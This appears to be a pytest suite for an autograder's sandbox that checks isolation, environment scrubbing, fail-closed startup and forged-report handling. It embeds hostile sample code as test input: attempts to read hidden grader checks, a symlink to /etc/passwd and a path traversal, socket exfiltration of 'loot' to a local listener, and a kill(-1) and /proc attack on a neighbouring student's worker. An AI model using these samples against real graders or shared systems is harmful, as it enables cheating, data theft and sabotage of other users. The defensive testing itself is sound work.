"""The sandbox's own rules: fail closed, what the worker sees, limits it cannot bend, reports it cannot forge."""
import json
import os

import pytest

from autograder.host import isolation
from autograder.host import runner, steps
from autograder.host.isolation import Isolation, WorkerPaths
from conftest import ROOT, UNDO_SOCKET_BLOCK, require_uid_level, run_cli


def _paths(tmp_path):
    paths = WorkerPaths(job=tmp_path / "job", output=tmp_path / "output", scratch=tmp_path / "scratch")
    for path in (paths.job, paths.output, paths.scratch):
        path.mkdir()
    return paths


def test_an_unknown_level_is_refused():
    with pytest.raises(ValueError, match="Received: 'chroot'"):
        Isolation("chroot")
    with pytest.raises(ValueError, match="Received"):
        runner.Limits(isolation="sandbox")


def test_a_sandbox_that_cannot_start_stops_grading_with_the_cause_and_no_result(tmp_path):
    env_before = os.environ.get(isolation.BWRAP_ENV)
    os.environ[isolation.BWRAP_ENV] = "/bin/false"  # a bwrap that always fails, as where namespaces are blocked
    try:
        done = run_cli("grade", str(ROOT / "solutions" / "fashion_mnist.py"), "--json", str(tmp_path / "r.json"))
    finally:
        if env_before is None:
            del os.environ[isolation.BWRAP_ENV]
        else:
            os.environ[isolation.BWRAP_ENV] = env_before
    assert done.returncode == 4, done.stdout + done.stderr
    assert "bubblewrap cannot create a sandbox" in done.stderr and "--isolation uid" in done.stderr
    assert not (tmp_path / "r.json").exists()  # fail closed: nothing graded, nothing weaker ran instead


def test_the_worker_sees_no_checkout_no_home_and_no_secrets(tmp_path, monkeypatch):
    monkeypatch.setenv("AUTOGRADER_TEST_SECRET", "s3cr3t")
    env = runner._worker_env(1)
    assert "AUTOGRADER_TEST_SECRET" not in env and runner.PROBE_KEY_ENV not in env
    assert set(env) <= {"PATH", "CUDA_VISIBLE_DEVICES", "TF_CPP_MIN_LOG_LEVEL", "TF_NUM_INTRAOP_THREADS",
                        "TF_NUM_INTEROP_THREADS", "OMP_NUM_THREADS", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE",
                        "MPLBACKEND", "LANG", *isolation.PASSED_ENV}
    boxed = Isolation("bwrap")
    command, outer_env, _ = boxed.command(boxed.worker_argv("autograder.worker.main", "{job}", "{output}"),
                                          _paths(tmp_path), env)
    assert outer_env == {}  # bwrap itself starts with nothing; --clearenv, then only --setenv
    assert {"--unshare-all", "--unshare-user", "--die-with-parent", "--new-session", "--clearenv"} <= set(command)
    mounted = {command[i + 1] for i, arg in enumerate(command) if arg in ("--bind", "--ro-bind", "--ro-bind-try")}
    writable = [command[i + 1] for i, arg in enumerate(command) if arg == "--bind"]
    assert writable == [str(tmp_path / "output")]
    for forbidden in (ROOT, ROOT / "solutions", ROOT / "source", ROOT / "tests", os.path.expanduser("~")):
        assert str(forbidden) not in mounted, forbidden
    assert command[-3:] == ["/kit", "/job", "/output"]  # parts of the kit's package alone, under /kit/autograder
    kit = {command[i + 2]: command[i + 1] for i, arg in enumerate(command)
           if arg == "--ro-bind" and command[i + 2].startswith("/kit/")}
    assert kit["/kit/autograder/graders/gap/probes.py"] == str(ROOT / "autograder" / "graders" / "gap" / "probes.py")
    assert kit["/kit/autograder/core"] == str(ROOT / "autograder" / "core")
    judging = [inside for inside in kit if "checks" in inside or inside.split("/")[3] in
               ("host", "classroom", "course", "publish", "audit", "cli.py")]
    assert not judging, judging


def test_a_kit_installed_into_site_packages_is_hidden_there_too(tmp_path, monkeypatch):
    """A non-editable install puts the whole package, checks included, inside a folder bound for the interpreter:
    a tmpfs hides it there, before the worker's parts are bound at /kit."""
    package = tmp_path / "site-packages" / "autograder"
    (package / "graders" / "gap").mkdir(parents=True)
    for name in ("__init__.py", "graders/__init__.py", "graders/gap/__init__.py", "graders/gap/probes.py",
                 "graders/gap/checks.py"):
        (package / name).write_text("", encoding="utf-8")
    monkeypatch.setattr(isolation, "_kit_package", lambda: package)
    monkeypatch.setattr(isolation, "_read_only_roots", lambda: [str(tmp_path / "site-packages")])
    boxed = Isolation("bwrap")
    command, _, _ = boxed.command(boxed.worker_argv("autograder.worker.main", "{job}", "{output}"), _paths(tmp_path),
                                  {})
    hidden = command.index("--tmpfs", command.index(str(tmp_path / "site-packages")))
    assert command[hidden + 1] == str(package)
    bound = [command[i + 2] for i, arg in enumerate(command) if arg == "--ro-bind" and i > hidden]
    assert "/kit/autograder/graders/gap/probes.py" in bound and not any("checks" in b for b in bound), bound


@pytest.mark.slow
def test_the_graders_judging_code_cannot_be_read_from_the_sandbox(tmp_path):
    """Student code can read no checks.py (hidden checks, thresholds) nor the grading process's code anywhere it
    can look, yet the probes it is graded by are there: an error message would otherwise carry them out."""
    searcher = (ROOT / "solutions" / "fashion_mnist.py").read_text(encoding="utf-8").replace(
        "    images = tf.cast(images, tf.float32) / 255.0\n", """    import glob, sys
    places = ["/kit", "/", *sys.path]
    judging = sorted({path for place in places for pattern in ("autograder/graders/*/checks.py",
                      "autograder/host/*.py", "autograder/graders/*/__pycache__/checks*", "autograder/cli.py")
                      for path in glob.glob(f"{place}/{pattern}") if open(path, "rb").read(1)})
    probes = sorted(glob.glob("/kit/autograder/graders/*/probes.py"))
    raise RuntimeError(f"JUDGING {judging} PROBES {len(probes)}")
""", 1)
    assert "JUDGING" in searcher
    (tmp_path / "fashion_mnist.py").write_text(searcher, encoding="utf-8")
    done = run_cli("grade", str(tmp_path / "fashion_mnist.py"), "--json", str(tmp_path / "r.json"))
    assert done.returncode == 0, done.stderr
    outputs = [t["output"] for t in json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["tests"]
               if t["extra_data"]["check_id"] == "normalize_values"]
    probes = len(list((ROOT / "autograder" / "graders").glob("*/probes.py")))
    assert outputs and f"JUDGING [] PROBES {probes}" in outputs[0], outputs


def test_progress_lines_count_once_and_in_order():
    parts = [("x", ["a", "b"])]
    honest = ["starting", "import x", "imported x", "start x/a", "end x/a", "start x/b"]
    assert steps.steps_reached(honest, parts) == 6
    forged = ["starting", "import x", "imported x", *["start x/a", "end x/a"] * 500, "start x/a"]
    assert steps.steps_reached(forged, parts) == 5  # repeating a step buys nothing
    assert steps.steps_reached(["done", "end x/b", "start x/b", "starting"], parts) == 1


def test_a_failed_import_skips_only_that_files_probes():
    parts = [("x", ["a"]), ("y", ["b"])]
    sequence = steps.StepSequence(parts)
    reached = sequence.feed(["starting", "import x", "import-failed x", "start x/a", "import y", "imported y"])
    assert [step.line for step in reached] == ["starting", "import x", "import-failed x", "import y", "imported y"]
    assert sequence.next_step == steps.Step("start", "y", "b")  # the forged "start x/a" after the failure counts for nothing
    assert steps.steps_reached(["starting", "import-failed x"], parts) == 1  # not before its own "import"


def test_a_forged_or_linked_manifest_entry_reads_as_nothing_returned(tmp_path):
    (tmp_path / "model.keras").write_bytes(b"PK")
    (tmp_path / "secret.npy").symlink_to("/etc/passwd")
    values = {"model": {"kind": "model", "file": "model.keras"},
              "escape": {"kind": "array", "file": "../../etc/passwd.npy"},
              "linked": {"kind": "array", "file": "secret.npy"},
              "wrong_suffix": {"kind": "array", "file": "model.keras"},
              "odd": {"kind": "pickle", "file": "x"}, "plain": {"kind": "json", "value": [1, 2]},
              "not_a_dict": 3}
    assert runner._manifest(values, tmp_path) == {"model": {"kind": "model", "file": "model.keras"},
                                                   "plain": {"kind": "json", "value": [1, 2]}}
    assert runner._manifest("not a manifest", tmp_path) == {}


def test_a_missing_or_garbled_report_is_a_student_error_not_a_grader_fault(tmp_path):
    assert runner._worker_payload(tmp_path) is None
    (tmp_path / "result.json").write_text("{not json", encoding="utf-8")
    assert runner._worker_payload(tmp_path) is None
    (tmp_path / "result.json").write_text(json.dumps({"state": "passed"}), encoding="utf-8")
    assert runner._worker_payload(tmp_path) is None  # not a state the worker may report


def test_probe_inputs_come_from_a_secret_key(monkeypatch):
    monkeypatch.setenv(runner.PROBE_KEY_ENV, "key one")
    first = [runner.probe_seed(seed) for seed in (0, 1)]
    assert first == [runner.probe_seed(seed) for seed in (0, 1)] and first[0] != first[1]
    monkeypatch.setenv(runner.PROBE_KEY_ENV, "key two")
    assert runner.probe_seed(0) != first[0]  # knowing --seed is not enough


def test_without_a_key_the_grader_makes_a_private_one(tmp_path, monkeypatch):
    monkeypatch.delenv(runner.PROBE_KEY_ENV, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    seed = runner.probe_seed(0)
    key = tmp_path / ".config" / "tf2-autograder" / "probe-key"
    assert key.is_file() and key.stat().st_mode & 0o077 == 0
    assert runner.probe_seed(0) == seed


LIAR = '''
class Liar:
    """Claims to be an array and lies, or raises, whenever anyone looks."""
    dtype = "float32"

    @property
    def shape(self):
        raise RuntimeError("my shape is a secret")

    def __len__(self):
        raise RuntimeError("my length is a secret")

    def __array__(self, *args, **kwargs):
        raise RuntimeError("no array for you")

    def __eq__(self, other):
        return True

    def __iter__(self):
        raise RuntimeError("not iterable today")


def normalize(images, labels):
    return Liar(), Liar()
'''


@pytest.mark.slow
def test_objects_that_lie_about_themselves_fail_the_student_not_the_grader(tmp_path):
    stub = (ROOT / "exercises" / "fashion_mnist.py").read_text(encoding="utf-8")
    (tmp_path / "fashion_mnist.py").write_text(stub + LIAR, encoding="utf-8")
    done = run_cli("grade", str(tmp_path / "fashion_mnist.py"), "--json", str(tmp_path / "r.json"))
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    tests = {t["tags"][1]: t for t in json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["tests"]}
    normalize = {check: test for check, test in tests.items() if check.startswith("normalize")}
    assert normalize and all(test["score"] == 0 for test in normalize.values())
    assert not [check for check, test in tests.items() if test["extra_data"]["grader_fault"]]


UID_NETWORK_ATTACK = r'''


def _phone_home(port, loot):
    import socket, subprocess, sys
    tried = []
    for how in ("connect", "bind", "child"):
        try:
            if how == "connect":
                socket.create_connection(("127.0.0.1", port), timeout=5).sendall(b"loot")
            elif how == "bind":
                socket.create_server(("127.0.0.1", 0))
            else:
                subprocess.run([sys.executable, "-c", f"import socket; socket.create_connection(('127.0.0.1', {port}),"
                                f" timeout=5).sendall(b'loot')"], check=True, capture_output=True)
            tried.append(how + " worked")
        except (OSError, subprocess.CalledProcessError) as exc:
            tried.append(f"{how} refused: {type(exc).__name__}")
    open(loot + "/tried", "w").write("\n".join(tried))


_phone_home(PORT, LOOT)
'''


def test_under_uid_the_students_code_can_neither_connect_nor_bind_tcp(tmp_path):
    """Level uid has no network namespace; Landlock's network rules close TCP to the worker and its children,
    whatever the student's code does to Python's socket module."""
    import shutil
    import socket
    import tempfile

    from autograder.host import landlock

    if landlock.abi_version() < landlock.NETWORK_ABI:
        pytest.skip(f"this kernel's Landlock (ABI {landlock.abi_version()}) has no network rules")
    require_uid_level()
    loot = tempfile.mkdtemp(prefix="tf2-uid-loot-")
    os.chmod(loot, 0o777)  # the sandbox's user writes what it tried
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    try:
        stub = (ROOT / "exercises" / "fashion_mnist.py").read_text(encoding="utf-8")
        attack = UNDO_SOCKET_BLOCK + UID_NETWORK_ATTACK.replace("PORT, LOOT", f"{listener.getsockname()[1]}, {loot!r}")
        (tmp_path / "fashion_mnist.py").write_text(stub + attack, encoding="utf-8")
        done = run_cli("grade", str(tmp_path / "fashion_mnist.py"), "--isolation", "uid", "--json",
                       str(tmp_path / "r.json"))
        assert done.returncode == 0, done.stdout + done.stderr
        tried = open(os.path.join(loot, "tried")).read().splitlines()
        assert tried == ["connect refused: PermissionError", "bind refused: PermissionError",
                         "child refused: CalledProcessError"], tried
        with pytest.raises(TimeoutError):
            listener.accept()  # nothing reached the test's listener
        assert json.loads((tmp_path / "r.json").read_text())["score"] == 0
    finally:
        listener.close()
        shutil.rmtree(loot, ignore_errors=True)


SIDE_BY_SIDE_ATTACK = r'''


def _reach_the_student_beside(seconds, loot):
    # Another student is graded at the same time: kill their worker, read their code, write into their output.
    import glob, os, signal, time
    seen, until, own = set(), time.monotonic() + seconds, open("/proc/self/cmdline").read()
    log = open(loot + "/tried", "a")
    while time.monotonic() < until:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                text = open(cmdline).read()
            except OSError:
                continue
            if "autograder.worker.main" not in text or text == own:  # another student's worker, not this one
                continue
            argv = text.split("\0")
            for path in argv:
                if path.endswith(("/job", "/output")) and path not in seen:
                    seen.add(path)
                    try:
                        if path.endswith("/job"):
                            print(path, "read", len(open(path + "/fashion_mnist.py").read()), file=log, flush=True)
                        else:
                            open(path + "/forged.json", "w").write("{}")
                            print(path, "written", file=log, flush=True)
                    except OSError as exc:
                        print(path, type(exc).__name__, file=log, flush=True)
        time.sleep(0.2)


_reach_the_student_beside(40, LOOT)
'''


@pytest.mark.slow
def test_under_uid_a_student_cannot_reach_the_worker_of_a_student_graded_beside(tmp_path):
    """At level uid each grading process's workers are a user of their own (and, where the kernel has it, in a
    Landlock domain): kill(-1), another worker's job (its code) and output are out of a student's reach."""
    import csv
    import shutil
    import tempfile

    require_uid_level()
    loot = tempfile.mkdtemp(prefix="tf2-uid-loot-")
    os.chmod(loot, 0o777)
    classdir = tmp_path / "class"
    attacker = (ROOT / "exercises" / "fashion_mnist.py").read_text(encoding="utf-8") + \
        SIDE_BY_SIDE_ATTACK.replace("40, LOOT)", f"40, {loot!r})")
    for student, source in (("attacker", attacker),
                            ("victim", (ROOT / "solutions" / "fashion_mnist.py").read_text(encoding="utf-8"))):
        (classdir / student).mkdir(parents=True)
        (classdir / student / "fashion_mnist.py").write_text(source, encoding="utf-8")
    try:
        done = run_cli("grade-all", str(classdir), "--out", str(tmp_path / "out"), "--assignment", "fashion_mnist",
                       "--workers", "2", "--isolation", "uid", "--lang", "en")
        assert done.returncode == 0, done.stdout + done.stderr
        tried = open(os.path.join(loot, "tried")).read().splitlines() if os.path.exists(
            os.path.join(loot, "tried")) else []
    finally:
        shutil.rmtree(loot, ignore_errors=True)
    with open(tmp_path / "out" / "grades.csv", newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert any(line.endswith("/job PermissionError") for line in tried), (tried, rows)  # it found the victim
    # (other tests' bwrap workers, whose /job and /output exist only inside their sandboxes, show as not found)
    assert not [line for line in tried if line.endswith(" written") or " read " in line], tried
    assert (rows["victim"]["total"], rows["victim"]["status"]) == (rows["victim"]["max"], "ok"), \
        (tmp_path / "out" / "victim" / "feedback.md").read_text(encoding="utf-8")
    assert float(rows["attacker"]["total"]) == 0
